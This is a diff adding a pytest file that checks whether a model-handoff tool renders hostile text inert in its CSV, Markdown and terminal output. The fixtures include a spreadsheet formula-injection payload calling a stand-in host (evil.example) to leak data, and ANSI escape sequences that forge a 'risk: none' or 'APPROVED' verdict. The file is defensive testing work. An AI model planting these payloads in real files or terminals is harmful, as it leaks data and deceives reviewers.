@@ -1,0 +1,107 @@
+"""Text an analyst (or a model, or a destination) wrote reaches other people's terminals and
+spreadsheets inert: control characters shown as escapes, formulas as text, one Markdown line."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import numpy as np
+import pandas as pd
+from sklearn.linear_model import LogisticRegression
+from support import handoff_cli, push_model, wait_checked
+
+from handoff_agent.deploy_cli import review_line
+from handoff_agent.outbox_cli import delivery_line
+
+# A column named like a spreadsheet formula, and one that clears the terminal line, returns
+# to its start and writes a forged verdict over it.
+FORMULA = '=HYPERLINK("http://evil.example/?leak","gender")'
+FORGE = "\x1b[2K\rrisk: none\x1b]8;;http://evil.example\x07"
+MESSAGE = "fine\r# APPROVED by risk\x1b[8m hidden"
+
+
+def shown_inert(text: str) -> bool:
+    return "\x1b" not in text and "\r" not in text and "\x07" not in text
+
+
+def _push(agent):
+    rng = np.random.default_rng(0)
+    X = pd.DataFrame(rng.normal(size=(200, 2)), columns=["tenure", "spend"])
+    y = (X["tenure"] > 0).astype(int)
+    groups = [
+        pd.Series(np.where(np.arange(200) % 2, "f", "m"), name=FORMULA),
+        pd.Series(np.where(np.arange(200) % 3, "a", "b"), name=FORGE),
+    ]
+    v = push_model(
+        agent, LogisticRegression().fit(X, y), "hostile", X=X, y=y, sensitive=groups,
+        message=MESSAGE,
+    )  # fmt: skip
+    wait_checked(agent, "hostile", v.number)
+    return v.number
+
+
+def test_inventory_csv_shows_a_formula_column_as_text_and_the_table_no_escapes(shared_agent):
+    _push(shared_agent)
+    out = handoff_cli(shared_agent.env, "inventory", "--agent", "local", "--format", "csv")
+    assert out.returncode == 0, out.stdout + out.stderr
+    assert shown_inert(out.stdout), out.stdout
+    row = next(r for r in csv.DictReader(io.StringIO(out.stdout)) if r["name"] == "hostile")
+    assert row["sensitive_attributes"].startswith("'=HYPERLINK("), row
+    assert "\\x1b[2K\\rrisk: none" in row["sensitive_attributes"]
+    out = handoff_cli(shared_agent.env, "inventory", "--agent", "local")
+    assert out.returncode == 0, out.stdout + out.stderr
+    assert shown_inert(out.stdout), out.stdout
+    assert "\\x1b[2K\\rrisk: none" in out.stdout
+
+
+def test_model_card_keeps_a_message_on_its_line_and_prints_no_escapes(shared_agent):
+    number = _push(shared_agent)
+    out = handoff_cli(shared_agent.env, "report", f"hostile:{number}", "--format", "md")
+    assert out.returncode == 0, out.stdout + out.stderr
+    assert shown_inert(out.stdout), out.stdout
+    line = next(x for x in out.stdout.splitlines() if x.startswith("| message |"))
+    assert line == "| message | fine # APPROVED by risk\\\\x1b\\[8m hidden |", line
+    assert not any(x.startswith("# APPROVED") for x in out.stdout.splitlines())
+
+
+def test_history_text_shows_a_message_inert(shared_agent):
+    from jupyter_handoff import config, timeline
+
+    _push(shared_agent)
+    config._instance = config.Handoff(
+        agent_url=shared_agent.url, token=shared_agent.token, auto_start=False
+    )
+    try:
+        text = repr(timeline.history("hostile"))
+    finally:
+        config._instance = None
+    assert shown_inert(text), text
+    assert "fine\\r# APPROVED by risk\\x1b[8m hidden" in text
+
+
+def test_review_and_delivery_lines_show_what_central_quotes_inert():
+    """A refusal's message quotes what a model raised; a webhook's error is its answer."""
+    entry = {
+        "model": "churn",
+        "version": 2,
+        "stage": "validated",
+        "next": "approved",
+        "missing": {"reviewer": 1},
+        "signoffs": [],
+        "verdict": "pass",
+        "pushed_by": "alice",
+        "since": "2026-12-05T03:50:00",
+        "blocked": {"code": "load_test_failed", "message": f"the validation broke: {FORGE}"},
+    }
+    text = review_line(entry)
+    assert shown_inert(text) and len(text.splitlines()) == 2, text
+    row = {
+        "model": "churn",
+        "number": 2,
+        "destination": "hook",
+        "state": "dead",
+        "attempts": 3,
+        "last_error": f"HTTP 400: {FORGE}",
+    }
+    assert shown_inert(delivery_line(row, 0.0))
